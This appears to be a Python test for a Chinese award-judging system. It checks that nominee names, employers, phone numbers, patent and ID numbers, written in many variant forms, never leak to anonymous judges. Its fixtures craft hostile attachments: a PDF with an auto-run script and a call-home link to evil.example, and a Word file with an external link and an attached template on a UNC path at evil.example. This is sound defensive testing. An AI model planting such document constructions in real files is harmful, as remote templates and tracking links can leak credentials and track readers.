"""Identities written the way real 推荐表 write them never reach a judge.

Nominations carry their people, employers, cities and numbers in the forms the issue lists —
traditional characters, pinyin, surname with a title, team members no row names as inventors, the
employer's short name and abbreviation, the city with 市/地区 and a district, patents without ZL or
check digit, phones with dots, brackets, 尾号 and without area code, an e-mail with " at ", an ID number
with spaces — in the title, summary, body and in PDF and Word attachments that also carry scripts,
links and an attached template. The organizer's path runs as the office runs it (import with a ZIP,
"confirm all clean", the rest confirmed as they stood, assignment preview and commit); then every judge
who got one crawls every page, fragment, JSON answer and download, and nothing is found.
"""

from __future__ import annotations

import csv
import io
import random
import zipfile

import docx
import pytest
from sqlalchemy import select

from helpers import login
from judging import audit
from judging.accounts import Role, add_user
from judging.accounts.models import User
from judging.demo.content import CITIES, DEMO_PASSWORDS, current_edition_spec
from judging.demo.current import DEMO_EMPLOYEES, add_experts
from judging.documents.rendering import render_pdf
from judging.editions.models import Edition, RoundKind
from judging.editions.service import create_edition, open_round
from judging.nominations import dictionary, importer, service
from judging.nominations.identity import traditional
from judging.nominations.models import Nomination, NominationStatus
from judging.nominations.storage import AttachmentStore
from judging.panels.models import Assignment, Expert
from judging.panels.plan_settings import PlanSettings
from judging.panels.service import commit_plan, preview_plan
from judging.scoring.service import accept_undertaking
from nominations.test_active_content import FORBIDDEN_DOCX, FORBIDDEN_PDF, _pdf_names
from nominations.test_leak_scanner import _crawl, _texts_of

# first inventor, pinyin as written, team member, city, employer, district, short name, category
PEOPLE = [
    ("韦卫东", "Wei Weidong", "蒋海鹰", "南京", "南京钢铁股份有限公司", "江宁区", "南钢", "十大先进操作法"),
    ("祁振华", "QI Zhenhua", "褚文涛", "徐州", "徐州工程机械集团有限公司", "铜山区", "徐工", "十大科技成果"),
    ("滕晓岚", "Xiaolan Teng", "鲍立群", "苏州", "江苏沙钢集团有限公司", "张家港市", "沙钢", "首席员工"),
    ("卞红英", "Bian Hongying", "阎志刚", "宿迁", "江苏洋河酒厂股份有限公司", "宿城区", "洋河", "十佳合理化建议"),
    ("臧立新", "Zang Lixin", "邬建平", "盐城", "江苏悦达起亚汽车有限公司", "亭湖区", "悦达起亚", "十大科技成果"),
    ("瞿海峰", "Qu Haifeng", "嵇文斌", "苏州", "国网江苏省电力有限公司苏州供电分公司", "吴中区", "苏州供电公司",
     "首席员工"),
]
HEADER = ["类别", "城市", "项目名称", "简介", "正文", "完成人", "团队成员", "工作单位", "单位简称", "专利号", "联系电话",
          "电子邮箱", "附件"]
ORGANIZER = audit.Actor(None, "organizer-test")


def _numbers(i: int) -> dict[str, str]:
    mobile = f"1{8 - i % 3}{i}8667{6380 + i}"
    return {"patent": f"ZL20191012345{i}.7", "mobile": mobile, "landline": f"025-8456123{i}",
            "email": f"contact{i}@steelworks{i}.com", "id": f"32010219800101123{i}"}


def _forms(i: int) -> dict[str, str]:
    """The strings as the texts write them, each a secret that must not reach a judge."""
    first, pinyin, member, city, employer, district, short, _ = PEOPLE[i]
    n = _numbers(i)
    surname = first[0]
    digits = n["patent"][2:]
    m = n["mobile"]
    return {
        "traditional": traditional(first), "pinyin": pinyin, "member": member, "title": f"{surname}总工",
        "master": f"{surname}师傅", "little": f"小{surname}", "method": f"{surname}氏", "engineer": f"{surname}工",
        "short": short, "bare_employer": employer.replace("股份有限公司", "").replace("集团有限公司", "集团"),
        "city": f"{city}市", "region": f"{city}地区", "district": district,
        "patent_no_zl": digits, "patent_no_check": "ZL" + digits.split(".")[0],
        "dotted": f"{m[:3]}.{m[3:7]}.{m[7:]}", "bracketed": f"({m[:3]}){m[3:7]}-{m[7:]}", "tail": f"尾号{m[-4:]}",
        "local": f"{n['landline'][4:8]}-{n['landline'][8:]}", "email_at": n["email"].replace("@", " at "),
        "id_spaced": f"{n['id'][:6]} {n['id'][6:14]} {n['id'][14:]}",
    }


def _text(i: int) -> str:
    f = _forms(i)
    return (f"{f['traditional']}同志（{f['pinyin']}）带领团队，{f['member']}负责工艺。大家叫他{f['engineer']}，"
            f"{f['title']}亲自把关，{f['master']}手把手带徒，{f['little']}说，形成了{f['method']}操作法。"
            f"{f['short']}的职工在{f['city']}推广，{f['region']}多家单位应用，{f['district']}车间先行。"
            f"{f['bare_employer']}的高炉。专利{f['patent_no_zl']}、{f['patent_no_check']}。"
            f"电话{f['dotted']}、{f['bracketed']}，手机{f['tail']}，座机{f['local']}。"
            f"邮箱 {f['email_at']}，身份证 {f['id_spaced']}。")


def _pdf(i: int) -> bytes:
    """A text PDF naming everyone, with a document script, a link that calls home and an embedded file."""
    import pikepdf

    data = render_pdf("reports/attachment_text.html", {"pages": [_text(i)], "name": ""}).content
    with pikepdf.open(io.BytesIO(data)) as pdf:
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
        link = pdf.make_indirect(pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 100],
            A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("http://evil.example/track"))))
        pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([link]))
        pdf.attachments["payload.txt"] = pikepdf.AttachedFileSpec(pdf, PEOPLE[i][0].encode())
        out = io.BytesIO()
        pdf.save(out)
    return out.getvalue()


def _docx(i: int) -> bytes:
    """A Word file naming everyone (body, table, header, runs split inside a name), with an external link
    and an attached template on a UNC path."""
    f = _forms(i)
    document = docx.Document()
    paragraph = document.add_paragraph()
    for piece in (f["traditional"][:1], f["traditional"][1:], "同志与", f["member"], "、", f["short"]):
        paragraph.add_run(piece)
    document.add_paragraph(_text(i))
    document.add_table(rows=1, cols=1).rows[0].cells[0].text = f"完成人：{PEOPLE[i][0]}，{f['dotted']}"
    document.sections[0].header.paragraphs[0].text = f"{PEOPLE[i][4]} {f['district']}"
    out = io.BytesIO()
    document.save(out)
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    parts["word/_rels/document.xml.rels"] = parts["word/_rels/document.xml.rels"].replace(
        b"</Relationships>", f'<Relationship Id="rX1" Type="{rel}/hyperlink" Target="http://evil.example/x" '
                             f'TargetMode="External"/></Relationships>'.encode())
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"<w:sectPr", b'<w:p><w:hyperlink r:id="rX1"><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p><w:sectPr', 1)
    parts["word/_rels/settings.xml.rels"] = (
        f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rT1" Type="{rel}/attachedTemplate" Target="file:///\\\\evil.example\\t.dotm" '
        f'TargetMode="External"/></Relationships>').encode()
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"</w:settings>", f'<w:attachedTemplate xmlns:r="{rel}" r:id="rT1"/></w:settings>'.encode())
    rebuilt = io.BytesIO()
    with zipfile.ZipFile(rebuilt, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return rebuilt.getvalue()


def _upload() -> tuple[bytes, bytes]:
    rows, files = [], {}
    for i, (first, _p, member, city, employer, _d, short, category) in enumerate(PEOPLE):
        f, n = _forms(i), _numbers(i)
        names = [f"{first}-{employer}申报书.pdf", f"{first}说明.docx"]
        files[names[0]], files[names[1]] = _pdf(i), _docx(i)
        title = f"{f['method']}高炉布料快速操作法" if category == "十大先进操作法" else f"{f['short']}输电线路覆冰智能监测技术"
        rows.append([category, city, title, f"{f['traditional']}带领团队，在{f['city']}应用，{f['tail']}。", _text(i),
                     first, f"{member}（工艺）", employer, "XCMG" if short == "徐工" else "", n["patent"], n["mobile"],
                     n["email"], "；".join(names)])
    table = io.StringIO()
    csv.writer(table).writerows([HEADER, *rows])
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as out:
        for name, content in files.items():
            out.writestr(name, content)
    return table.getvalue().encode("utf-8-sig"), archive.getvalue()


def _organizer_path(session_factory, var_dir) -> list[str]:
    """The office's path; returns the usernames of the judges who got one of these nominations."""
    system = audit.Actor.system("demo")
    with session_factory() as s:
        add_user(s, username="organizer", password=DEMO_PASSWORDS["organizer"], role=Role.ORGANIZER, by=system)
        edition = create_edition(s, spec=current_edition_spec(), by=system)
        preliminary = next(r for r in edition.rounds if r.kind is RoundKind.PRELIMINARY)
        open_round(s, round_=preliminary, by=system)
        service.set_quotas(s, edition=edition, units=[(c, "city", DEMO_EMPLOYEES[c]) for c in CITIES], total=240,
                           by=system)
        add_experts(s, random.Random(7), actor=system)
        dictionary.seed(s, edition_id=edition.id, by=ORGANIZER)  # the office keeps the short names
        s.commit()
        edition_id, round_id = edition.id, preliminary.id
    table, archive = _upload()
    with session_factory() as s:
        edition = s.get(Edition, edition_id)
        record = importer.import_nominations(s, edition=edition, table_data=table, filename="推荐汇总表.csv",
                                             archive_data=archive, archive_name="附件.zip",
                                             store=AttachmentStore(var_dir), by=ORGANIZER)
        assert record.status == "imported" and record.created == len(PEOPLE), record.errors
        s.commit()
    with session_factory() as s:
        edition = s.get(Edition, edition_id)
        service.confirm_clean(s, edition=edition, by=ORGANIZER)
        for nomination_id in s.scalars(select(Nomination.id).where(Nomination.status == NominationStatus.RECEIVED)):
            service.confirm(s, edition=edition, nomination_id=nomination_id, by=ORGANIZER, acknowledge=True)
        for category in edition.categories:
            if s.scalar(select(Nomination.id).where(Nomination.category_id == category.id).limit(1)):
                plan = preview_plan(s, round_id=round_id, category_id=category.id, by=ORGANIZER,
                                    settings=PlanSettings(k=2, max_load=1, seed=3))
                commit_plan(s, plan_id=plan.id, by=ORGANIZER)
        judges = list(s.scalars(select(User).join(Expert, Expert.user_id == User.id)
                                .join(Assignment, Assignment.expert_id == Expert.id).distinct()))
        for judge in judges:
            accept_undertaking(s, judge=judge, edition=edition)
        s.commit()
        return sorted(j.username for j in judges)


def _secrets() -> set[str]:
    out: set[str] = set()
    for i, (first, _p, member, city, employer, _d, short, _c) in enumerate(PEOPLE):
        out.update(_forms(i).values())
        out.update([first, member, employer, *_numbers(i).values()])
    return out


@pytest.mark.slow  # imports, renders and crawls (about a minute)
def test_no_identity_in_any_form_reaches_any_judge(client, session_factory, settings):
    judges = _organizer_path(session_factory, settings.var_dir)
    assert len(judges) >= len(PEOPLE)  # two judges each, at most one of a category per judge
    secrets = _secrets()
    leaks, downloads = [], 0
    for judge in judges:
        client.cookies.clear()
        assert login(client, judge, DEMO_PASSWORDS["judge"]).status_code in (302, 303)
        seen = _crawl(client, judge)
        assert any(k.startswith("/judge/sheets/") for k in seen)
        for where, response in seen.items():
            if where.startswith("/judge/attachments/"):
                downloads += 1
                body = response.content
                if body.startswith(b"%PDF"):
                    assert not _pdf_names(body) & FORBIDDEN_PDF, where
                else:
                    with zipfile.ZipFile(io.BytesIO(body)) as archive:
                        for name in archive.namelist():
                            content = archive.read(name)
                            assert not [m for m in FORBIDDEN_DOCX if m in content], (where, name)
            for text in _texts_of(response):
                leaks.extend((judge, where, secret) for secret in secrets if secret in text)
    assert downloads >= 2 * len(judges)
    assert sorted(set(leaks)) == []
